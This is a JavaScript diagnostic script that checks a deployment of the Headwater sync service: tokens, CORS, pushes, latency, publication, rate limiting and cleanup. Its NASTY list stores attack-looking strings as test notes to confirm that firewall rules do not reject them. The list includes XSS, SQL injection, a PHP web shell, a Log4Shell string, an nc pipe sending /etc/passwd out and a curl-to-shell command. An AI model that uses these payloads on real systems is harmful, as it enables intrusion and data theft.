// `npm run first-day -- https://sync.example.com --token <JWT> [--origin https://app.example.com] [--burst 1300] [--large]`: what
// only a real account can show and a script can look at, over plain HTTP; docs/FIRST-DAY.md has the rest. The token, which may stand in
// HEADWATER_TOKEN instead, is one of a user who is there for this: the private space is filled, and emptied at the end. Exits with
// 1 when something is not as it should be.

import { randomBytes } from "node:crypto";
import { setTimeout as sleep } from "node:timers/promises";
import { parseArgs } from "node:util";
import { Stop, main } from "./setup.mjs";

const COLLECTION = "first-day";
const PATIENCE_MS = 120_000;
const REQUEST_MS = 150_000;
const SIZES = [100, 500, 2000];
// What the rate limiter lets through is counted in windows of ten seconds, of which this long a burst meets two at most.
const BURST_S = 10;
const LARGE = { pushes: 32, mutations: 4, records: 4, bytes: 250_000 };
// Texts that people write, and that rules against attacks know.
const NASTY = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  "javascript:alert(1)",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "' OR '1'='1' --",
  "1; DROP TABLE users; --",
  "UNION SELECT username, password FROM users",
  "'; EXEC xp_cmdshell('dir'); --",
  "SELECT pg_sleep(5)",
  "../../../../etc/passwd",
  "file:///etc/passwd",
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/shadow">]>',
  "${jndi:ldap://127.0.0.1/a}",
  "() { :; }; /bin/bash -c id",
  "; cat /etc/passwd | nc 10.0.0.1 4444",
  "$(curl http://127.0.0.1/x | sh)",
  "<?php system($_GET['c']); ?>",
  "{{7*7}} ${7*7} <%= 7*7 %>",
  'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
  "eval(base64_decode('cGhwaW5mbygpOw=='))",
];
const BY_HAND = [
  "rotate GRANT_SECRET while clients poll a shared space",
  "keys from an issuer that is a Worker of the same account",
  "a free account whose rows are used up",
  "cpuTime of a load of 20 MB, and of the largest push",
  "memory of the isolates while --large runs",
  "a part that was asked for before it was there",
  "where the private space of an invited user lives",
  "logs after a second deployment, and storage after 10,000 probes",
  "a deployment during pushes and a publication",
];

/** Something is not as it should be: what, and what to do about it. */
class Wrong extends Error {
  constructor(what, advice = "") {
    super(what);
    this.advice = advice;
  }
}

/** There is nothing to look at: why. */
class Skipped extends Error {}

const OPTIONS = {
  token: { type: "string", default: process.env.HEADWATER_TOKEN },
  origin: { type: "string" },
  burst: { type: "string", default: "1300" },
  large: { type: "boolean", default: false },
};
let [values, address] = [{}, null];
function parse() {
  const parsed = parseArgs({ allowPositionals: true, options: OPTIONS });
  const url = URL.canParse(parsed.positionals[0] ?? "") ? new URL(parsed.positionals[0]) : null;
  [values, address] = [parsed.values, /^https?:$/.test(url?.protocol) ? url.origin : null];
}

// After Ctrl-C nothing more is asked. What is under way is waited for, or it might be carried out after what it made was removed.
process.once("SIGINT", () => (state.isStopped = true));

// -- Requests

/** An answer of Headwater's. One of anybody else's is what this script is there to find. */
async function ask(method, path, { headers = {}, body, token = values.token } = {}) {
  if (state.isStopped && !state.isEmptying) throw new Wrong("stopped");
  const all = { ...(token && { authorization: `Bearer ${token}` }), ...(body && { "content-type": "application/json" }), ...headers };
  const started = performance.now();
  const init = { method, headers: all, body, redirect: "manual", signal: AbortSignal.timeout(REQUEST_MS) };
  const [response, text] = await fetch(address + path, init)
    .then(async (response) => [response, await response.text()])
    .catch((error) => {
      throw new Wrong(`${method} ${path}: no answer (${error.cause?.code ?? error.name})`, "Is the address right, and has the domain a certificate yet?");
    });
  const type = response.headers.get("content-type")?.split(";")[0] ?? "";
  const isRefused = response.status >= 300 && response.status !== 304;
  if (!response.headers.has("headwater-request") || (isRefused && type !== "application/problem+json")) {
    const seen = ["server", "cf-ray", "cf-mitigated"].map((name) => [name, response.headers.get(name)]).filter(([, value]) => value);
    const [what, from] = [`${response.status} ${type || "without a type"}`, seen.map((pair) => pair.join(" ")).join(", ") || "nobody who says so"];
    throw new Wrong(
      `${method} ${path}: the answer is not Headwater's: ${what} from ${from}: ${text.replace(/\s+/g, " ").slice(0, 120)}`,
      "Something in front of the Worker answers, or the platform does: see “The zone's protection” in docs/OPERATIONS.md.",
    );
  }
  if (response.status === 401 && state.isOurs && token === values.token) {
    throw new Stop("The token has ended. Begin again with one that is good for ten minutes at least: that run empties the space.");
  }
  const isJson = type.endsWith("json") && type !== "application/x-ndjson" && text !== "";
  return { status: response.status, headers: response.headers, text, json: isJson ? JSON.parse(text) : null, ms: performance.now() - started };
}

/** The same, repeated while it is asked to come back later. */
async function patiently(method, path, options) {
  for (const end = Date.now() + PATIENCE_MS; ; ) {
    const answer = await ask(method, path, options);
    const isLater = [429, 503].includes(answer.status) && Date.now() < end;
    if (!isLater) return answer;
    await sleep(1000 * Math.min(Number(answer.headers.get("retry-after") ?? 1), 30));
  }
}

function expect(answer, wanted, what) {
  if (answer.status === wanted) return answer;
  const { status, text, json } = answer;
  throw new Wrong(`${what}: ${status} instead of ${wanted}: ${text.slice(0, 200)}`, ADVICE[json?.code] ?? "The log of the Worker says more.");
}

const ADVICE = {
  internal: "The log names what is missing: keys, a secret, a setting.",
  upstream: "An object, KV or the issuer's keys were not reached; with a Retry-After of hours the free plan's day is used up. See the log.",
  unauthenticated: "The log says why, once a minute (`tokens refused`): docs/TOKENS.md.",
  token_expired: "Take a token that lasts for ten minutes.",
};

const timing = ({ headers }) =>
  [...(headers.get("server-timing") ?? "").matchAll(/([a-z_]+);desc="(\d+)"/g)].map(([, name, count]) => `${name} ${count}`).join(", ") || "nothing counted";
const sorted = (numbers) => numbers.toSorted((a, b) => a - b);
const at = (numbers, share) => Math.round(sorted(numbers)[Math.min(numbers.length - 1, Math.floor(numbers.length * share))]);
const put = (id, text) => ({ op: "put", collection: COLLECTION, id, value: { text } });

/** Numbers its mutations as a client does. */
class Client {
  id = `c_${randomBytes(6).toString("hex")}`;
  next = 1;

  constructor(space = "") {
    this.path = `/sync/push${space && `?space=${space}`}`;
  }

  /** `mutations` are lists of changes. */
  async push(mutations, send = patiently) {
    const numbered = mutations.map((changes, index) => ({ id: this.next + index, at: Date.now(), changes }));
    const answer = await send("POST", this.path, { body: JSON.stringify({ client: this.id, mutations: numbered }) });
    if (answer.status !== 200) return answer;
    this.next += mutations.length;
    const refused = answer.json.results.find(({ status }) => status !== "applied");
    if (refused) throw new Wrong(`a mutation was not applied: ${JSON.stringify(refused)}`);
    return answer;
  }
}

// -- What is looked at, in order

// `isOurs`: nothing of anybody else's is in the space. `shared`: ids of spaces that were made.
const state = { client: new Client(), position: null, pushed: 0, isOurs: false, isStopped: false, isEmptying: false, shared: [] };

/** The space as the coordinator has it. */
async function present() {
  const records = [];
  for (let cursor = ""; ; ) {
    const page = `/sync/pull?consistency=strong${cursor && `&cursor=${encodeURIComponent(cursor)}`}`;
    const { json } = expect(await patiently("GET", page), 200, "a pull with the token");
    records.push(...json.changes.filter(({ deleted }) => !deleted));
    if (!json.more) return { records, epoch: json.epoch, version: json.version };
    cursor = json.cursor;
  }
}

async function health() {
  const { json, ms } = expect(await ask("GET", "/health", { token: null }), 200, "GET /health");
  return `version ${json.version}, ${Math.round(ms)} ms`;
}

async function tokens() {
  expect(await ask("GET", "/sync/pull", { token: null }), 401, "a pull without a token");
  const { records } = await present();
  // What is emptied must be this script's.
  const foreign = records.find(({ collection }) => collection !== COLLECTION);
  if (foreign) throw new Stop(`the space of this token's user holds records (${foreign.collection}): take a user who is there for this.`);
  state.isOurs = true;
  if (records.length > 0) await emptying();
  return "keys are there, and nobody gets in without";
}

async function cors() {
  if (!values.origin) throw new Skipped("--origin https://… names a page's origin in ALLOWED_ORIGINS");
  const preflight = { origin: values.origin, "access-control-request-method": "POST", "access-control-request-headers": "authorization" };
  const allowed = ({ headers }) => headers.get("access-control-allow-origin");
  const asked = expect(await ask("OPTIONS", "/sync/push", { token: null, headers: preflight }), 204, "a preflight");
  const refused = expect(await ask("GET", "/sync/pull", { token: null, headers: { origin: values.origin } }), 401, "a page without a token");
  const stranger = await ask("GET", "/sync/pull", { headers: { origin: "https://first-day.invalid" } });
  if (allowed(asked) !== values.origin || allowed(refused) !== values.origin) {
    throw new Wrong(`${values.origin} may not read answers`, "Write it into ALLOWED_ORIGINS with scheme and port. Does Access or a rule answer preflights?");
  }
  if (allowed(stranger) !== null) throw new Wrong(`any origin may read answers: ${allowed(stranger)}`, "A rule of the zone adds CORS headers: remove it.");
  return "pages of the origin read answers, refusals too, and others do not";
}

async function pushes() {
  const said = [];
  for (const size of SIZES) {
    const changes = Array.from({ length: size }, (_, index) => put(`r${index}`, `${size} ${"milk ".repeat(40)}`));
    const mutations = Array.from({ length: Math.ceil(size / 100) }, (_, index) => changes.slice(100 * index, 100 * (index + 1)));
    try {
      const answer = expect(await state.client.push(mutations), 200, `a push of ${size} changes`);
      said.push(`${size} changes ${Math.round(answer.ms)} ms (${timing(answer)})`);
      Object.assign(state, { position: `${answer.json.epoch}.${answer.json.version}`, pushed: answer.json.version });
    } catch (error) {
      if (!(error instanceof Wrong) || said.length === 0) throw error;
      // Nobody knows whether it was carried out, and its client not what number comes next.
      state.client = new Client();
      throw new Wrong(`${said.join("; ")}; a push of ${size} changes: ${error.message}`, `On the free plan it may need more CPU than there is: “What costs CPU” in docs/OPERATIONS.md. Else: ${error.advice}`);
    }
  }
  return said.join("; ");
}

async function latency() {
  const times = async (client, name) => {
    const all = [];
    for (let n = 0; n < 20; n += 1) all.push(expect(await client.push([[put(name, `${n}`)]]), 200, "a push").ms);
    return all;
  };
  const alone = await times(state.client, "one");
  const both = (await Promise.all([times(state.client, "one"), times(new Client(), "two")])).flat();
  return `one client ${at(alone, 0.5)} ms (p95 ${at(alone, 0.95)}), two at once ${at(both, 0.5)} ms (p95 ${at(both, 0.95)})`;
}

async function pulls() {
  const answer = expect(await state.client.push([[put("last", "seen at once")]]), 200, "a push");
  state.position = `${answer.json.epoch}.${answer.json.version}`;
  const [epoch, version] = state.position.split(".");
  const sources = [];
  for (let n = 0; n < 6; n += 1) {
    const behind = `/sync/pull?epoch=${epoch}&since=${version - 1}&min=${state.position}`;
    const pulled = expect(await patiently("GET", behind), 200, "a pull");
    if (!pulled.json.changes.some(({ id }) => id === "last")) throw new Wrong("a pull with min does not show the write", "That breaks I3: report it.");
    sources.push(pulled.headers.get("headwater-source"));
    await sleep(n === 2 ? 1500 : 100);
  }
  const poll = { headers: { "if-none-match": `"${state.position}"` } };
  expect(await patiently("GET", `/sync/pull?epoch=${epoch}&since=${version}`, poll), 304, "a poll with nothing new");
  return `Headwater-Source ${sources.join(", ")}; a poll 304`;
}

async function publication() {
  const started = Date.now();
  const [epoch] = state.position.split(".");
  const isThere = async () => {
    const answer = await patiently("GET", "/sync/head");
    const head = answer.status === 200 ? JSON.parse(answer.text.split("\n")[0]) : null;
    return head?.epoch === epoch && head.version >= state.pushed;
  };
  while (!(await isThere())) {
    if (Date.now() - started > PATIENCE_MS) {
      throw new Wrong(`nothing was published in ${PATIENCE_MS / 1000} s`, "Look for `put failed` and `publication failed` in the log; is SNAPSHOTS bound?");
    }
    await sleep(1000);
  }
  const seconds = Math.round((Date.now() - started) / 1000);
  const { records, version } = await present();
  const load = expect(await patiently("GET", `/sync/pull?min=${epoch}.${version}`, { headers: { accept: "application/x-ndjson" } }), 200, "a first load");
  const lines = load.text.trimEnd().split("\n").map((line) => JSON.parse(line));
  if (!lines.at(-1).end) throw new Wrong("the stream of a first load ended before its last line", "Something on the way cuts or rewrites answers.");
  const ids = new Set(lines.filter((line) => line.id && !line.deleted).map(({ id }) => id));
  if (ids.size !== records.length) throw new Wrong(`a first load brought ${ids.size} of ${records.length} records`, "That breaks I7: report it.");
  const coding = load.headers.get("content-encoding") ?? "none";
  return `KV shows a head after ${seconds} s; a first load (${timing(load)}): ${load.text.length} bytes in ${Math.round(load.ms)} ms, coding ${coding}`;
}

async function nasty() {
  const refused = [];
  for (const [index, text] of NASTY.entries()) {
    // A client of its own for each: one that is refused leaves no gap.
    const pushed = await new Client().push([[put(`nasty${index}`, text)]]).catch((error) => error);
    if (pushed.status !== 200) refused.push({ text, why: pushed.message ?? `${pushed.status}` });
  }
  if (refused.length > 0) {
    const told = refused.map(({ text, why }) => `      ${JSON.stringify(text)}: ${why}`).join("\n");
    throw new Wrong(`${refused.length} of ${NASTY.length} notes are refused:\n${told}`, "Let managed rules skip /sync: “The zone's protection” in docs/OPERATIONS.md.");
  }
  return `${NASTY.length} notes that look like attacks are stored`;
}

async function large() {
  if (!values.large) throw new Skipped(`--large pushes ${LARGE.pushes} times 4 MB at once, into as many shared spaces`);
  const spaces = Array.from({ length: LARGE.pushes }, () => `s_first_day_${randomBytes(9).toString("hex")}`);
  state.shared = spaces;
  for (const space of spaces) expect(await patiently("PUT", `/spaces/${space}`), 200, "a new space");
  const text = "x".repeat(LARGE.bytes);
  const change = (mutation, record) => put(`r${mutation}.${record}`, text);
  const mutations = Array.from({ length: LARGE.mutations }, (_, m) => Array.from({ length: LARGE.records }, (_, r) => change(m, r)));
  const refusals = new Map();
  const send = async (...request) => {
    const answer = await ask(...request);
    const { status, json } = answer;
    if (status !== 200) refusals.set(`${status} ${json.code}`, (refusals.get(`${status} ${json.code}`) ?? 0) + 1);
    return [429, 503].includes(status) ? patiently(...request) : answer;
  };
  const started = performance.now();
  const ended = await Promise.allSettled(spaces.map(async (space) => expect(await new Client(space).push(mutations, send), 200, "a push of 4 MB")));
  const seconds = Math.round((performance.now() - started) / 1000);
  const failed = ended.find(({ status }) => status === "rejected");
  if (failed) throw failed.reason;
  const first = [...refusals].map(([what, count]) => `${count} times ${what}`).join(", ") || "none was refused";
  return `${LARGE.pushes} pushes of 4 MB were taken in ${seconds} s; at the first try ${first}. Look at the memory of the isolates`;
}

async function burst() {
  const count = Number(values.burst);
  if (count === 0) throw new Skipped("--burst 0");
  const [epoch, version] = state.position.split(".");
  const [codes, lanes] = [new Map(), 50];
  let left = count;
  const started = performance.now();
  const lane = async () => {
    while ((left -= 1) >= 0) {
      const { status, json } = await ask("GET", `/sync/pull?epoch=${epoch}&since=${version}&consistency=strong`);
      const what = status === 200 ? "200" : `${status} ${json.code}`;
      codes.set(what, (codes.get(what) ?? 0) + 1);
    }
  };
  await Promise.all(Array.from({ length: lanes }, lane));
  const seconds = (performance.now() - started) / 1000;
  const said = `${count} pulls in ${seconds.toFixed(1)} s: ${[...codes].map(([what, n]) => `${n} times ${what}`).join(", ")}`;
  if (codes.has("429 rate_limited")) return said;
  if (seconds > BURST_S) throw new Skipped(`too slow from here for any bound: ${said}`);
  throw new Wrong(`nothing stopped one user: ${said}`, "Is RATE_LIMITER bound, and RATE_USER_PER_S above 0? If it is higher than 100: --burst 10000.");
}

async function emptying() {
  const left = [];
  for (const space of [...state.shared, "~"]) {
    const { status, message } = await patiently("DELETE", `/spaces/${space}`).catch((error) => error);
    // It is gone, or was never made.
    if (![204, 404, 410].includes(status)) left.push(`DELETE /spaces/${space}: ${message ?? status}`);
  }
  if (left.length > 0) throw new Wrong(`something is left:\n      ${left.join("\n      ")}`, "Repeat these requests later.");
  if ((await present()).records.length > 0) throw new Wrong("records are left after the space was emptied", "Report it.");
  return "nothing of this is left";
}

const POINTS = [
  ["health", health],
  ["tokens and keys", tokens],
  ["pages of an origin", cors],
  ["pushes", pushes],
  ["commit latency", latency],
  ["pulls", pulls],
  ["publication", publication],
  ["nasty notes", nasty],
  ["large pushes", large],
  ["a burst", burst],
];
// Behind these there is nothing to look at without a space that has something in it.
const NEEDED = [health, tokens, pushes];

/** Whether a point is as it should be; null if it was not looked at. */
async function looked(name, look) {
  try {
    console.log(`✓ ${name}: ${await look()}`);
    return true;
  } catch (error) {
    if (error instanceof Skipped) {
      console.log(`– ${name}: not looked at; ${error.message}`);
      return null;
    }
    if (!(error instanceof Wrong)) throw error;
    console.log(`✗ ${name}: ${error.message}${error.advice && `\n    ${error.advice}`}`);
    return false;
  }
}

await main(async () => {
  parse();
  if (!address || !values.token) throw new Stop("usage: npm run first-day -- https://sync.example.com --token <JWT> [--origin https://app.example.com] [--burst 1300] [--large]");
  if (!Number.isInteger(Number(values.burst))) throw new Stop("--burst is a number.");
  console.log(`${address}, ${new Date().toISOString()}\n`);
  let wrong = 0;
  try {
    for (const [name, look] of POINTS) {
      if (state.isStopped) break;
      if ((await looked(name, look)) !== false) continue;
      wrong += 1;
      if (NEEDED.includes(look) && state.position === null) {
        console.log("– the rest: not looked at");
        break;
      }
    }
  } finally {
    state.isEmptying = true;
    if (state.isOurs && (await looked("emptying", emptying)) === false) wrong += 1;
  }
  if (state.isStopped) throw new Stop("Stopped.");
  console.log(`\nBy hand, as docs/FIRST-DAY.md says:\n${BY_HAND.map((line) => `  · ${line}`).join("\n")}\n`);
  if (wrong > 0) throw new Stop(`${wrong} ${wrong === 1 ? "point is" : "points are"} not as they should be.`);
  console.log("Everything that was looked at is as it should be.");
});
